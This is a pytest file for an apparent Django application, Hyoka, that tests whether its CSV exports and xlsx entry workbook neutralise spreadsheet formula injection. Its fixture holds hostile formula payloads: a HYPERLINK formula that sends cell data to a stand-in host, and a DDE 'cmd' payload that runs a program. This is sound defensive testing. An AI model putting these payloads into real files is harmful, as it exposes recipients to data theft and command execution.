"""Open data that cannot attack its readers (OWASP: CSV injection): texts entered through the
API that a spreadsheet would run as formulas come out of every CSV Hyoka writes — the open
data (``hyoka export --format csv``, ``/export/<year>.csv``) and the changes
(``/changes/?format=csv``) — with a ``'`` in front; real numbers, negative ones included, stay
numbers.  Runs on SQLite and PostgreSQL (DATABASE_URL)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from hyoka.api.models import ApiToken
from hyoka.cli import main
from hyoka.core.spreadsheet import FORMULA_STARTS
from hyoka.evaluation.models import PlanYear
from hyoka.plans.models import Project
from hyoka.reports import render_csv
from hyoka.reports.statuslist import StatusListReport
from tests.factories import plan_of, year_url

pytestmark = pytest.mark.django_db

#: (project, indicator) whose target is no quantity, so any text is an actual → the text
FORMULAS = {
    (10, 1): '=HYPERLINK("http://x?d="&A2,"詳細")',
    (22, 1): "+cmd|' /C calc'!A0",
    (27, 1): "-2+3",
    (29, 1): "@SUM(1+1)",
}


def _enter(people: dict[str, Any], year: PlanYear) -> None:
    _, token = ApiToken.issue(people["editor"])
    api = Client(headers={"Authorization": f"Bearer {token}"})
    for (number, position), text in FORMULAS.items():
        ind = Project.objects.get(plan=year.plan, number=number).indicators.get(position=position)
        response = api.put(
            f"/api/v1/indicators/{ind.uid}/actuals/2020",
            json.dumps({"text": text, "note": "=1+1", "version": 0}),
            content_type="application/json",
        )
        assert response.status_code == 200, response.content
        assert response.json()["text"] == text  # stored as written


def _cells(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.lstrip("\ufeff"))))


def _assert_safe(table: list[list[str]]) -> None:
    """No cell starts a formula, and each formula entered is there, neutralised."""
    flat = [c for row in table for c in row]
    for cell in flat:
        assert cell == "-" or not cell.startswith(FORMULA_STARTS) or _number(cell), cell
    for text in FORMULAS.values():
        assert "'" + text in flat, text


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_every_csv_writer(entry_year: tuple[PlanYear, dict[str, Any]], tmp_path: Path) -> None:
    year, people = entry_year
    _enter(people, year)
    out = tmp_path / "list.csv"
    assert main(["export", "--format", "csv", "--year", "2020", "-o", str(out)]) == 0
    _assert_safe(_cells(out.read_text(encoding="utf-8-sig")))
    web = Client()
    web.force_login(people["editor"])
    response = web.get(year_url("web:export", "csv", year=2020))
    assert response.status_code == 200
    _assert_safe(_cells(response.content.decode("utf-8")))
    response = web.get(
        reverse("web:changes", args=[plan_of(2019).pk]) + "?from_year=2019&to_year=2020&format=csv"
    )
    assert response.status_code == 200
    _assert_safe(_cells(response.content.decode("utf-8")))


def test_a_negative_number_stays_a_number() -> None:
    indicator = {
        "id": "x",
        "kind": "project",
        "name": "-2+3",
        "baseline": {"text": "▲2,805人", "number": -2805, "kind": "quantity"},
        "target": {"text": "-1.5", "number": -1.5},
        "actual": {"text": "-"},
        "rating": "-",
    }
    report = {
        "fiscal_year": 2020,
        "roles": [{"label": "ア", "projects": [{"number": 1, "indicators": [indicator]}]}],
    }
    [row] = render_csv.rows(StatusListReport.from_json(report))
    assert row["baseline_number"] == "-2805"
    assert row["target_text"] == row["target_number"] == "-1.5"
    assert row["indicator_name"] == "'-2+3"
    assert row["actual_text"] == row["rating"] == "-"
    assert row["baseline_text"] == "▲2,805人"


def test_the_entry_workbook_writes_them_as_text(
    entry_year: tuple[PlanYear, dict[str, Any]],
) -> None:
    """The entry workbook (xlsx) too: a text typed as =… is a text cell, never a formula, and
    taken back unchanged."""
    from openpyxl import load_workbook

    from hyoka.plans.models import Municipality
    from hyoka.workflow.workbook import apply_workbook, build_workbook
    from tests.factories import SAPPORO

    year, people = entry_year
    _enter(people, year)
    data = build_workbook(year, Municipality.objects.get(code=SAPPORO))
    cells = [c for row in load_workbook(io.BytesIO(data))["実績値"].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {c.value for c in cells} >= set(FORMULAS.values())
    result = apply_workbook(data, people["editor"], year, source="x.xlsx")
    assert result.applied == []
